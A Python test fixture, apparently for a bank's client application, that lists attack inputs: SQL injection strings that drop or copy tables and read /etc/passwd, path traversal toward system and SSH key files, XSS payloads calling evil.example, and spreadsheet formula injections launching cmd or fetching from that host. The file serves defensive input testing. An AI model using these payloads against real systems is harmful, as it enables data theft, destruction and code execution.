"""What attackers type: for SQL, for paths, for browsers, for spreadsheets."""

SQL = (
    "' or 1=1 --",
    "'; drop table client; --",
    "002') union select * from base.client --",
    '" or ""="',
    "$branches",
    "getvariable('branches')",
    "x'; set variable branches = ['002']; --",
    "x' or branch_id is not null or 'x'='",
    "%",
    "_%",
    "\\' or 1=1 #",
    "1; attach '/etc/passwd' as x",
    "read_parquet('/etc/passwd')",
    "'; copy base.client to '/tmp/stolen'; --",
    "0 or sleep(9)",
    "/* */",
)
PATHS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "/etc/passwd",
    "....//....//etc/passwd",
    "file:///etc/passwd",
    "C:\\windows\\win.ini",
    "%00",
    "~/.ssh/id_rsa",
    ".",
    "..",
)
HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src=javascript:alert(1)>',
    "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "</textarea><script>fetch('//evil.example')</script>",
    "<base href=//evil.example>",
    "<form action=//evil.example><button>x",
    "<object data=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
)
# What the pages' own markup would turn into links, formulas, icons, colours.
MARKUP = (
    "$E=mc^2$ and $$x^2$$",
    ":material/lock: Co",
    ":red[Alert] Co",
    "**Bold** _Slanted_ `Code` Co",
    "# Heading Co",
    ":smile: <b>Fat</b> Co",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '=DDE("cmd";"/C calc";"x")',
    '=1+1","=2+2',
)
# Names the bank's clients bear in the attacks; the client's own id keeps them apart.
NAMES = (*HTML, *MARKUP, *SQL[:8], *PATHS[:3], *(f for f in FORMULAS if f.strip() == f))
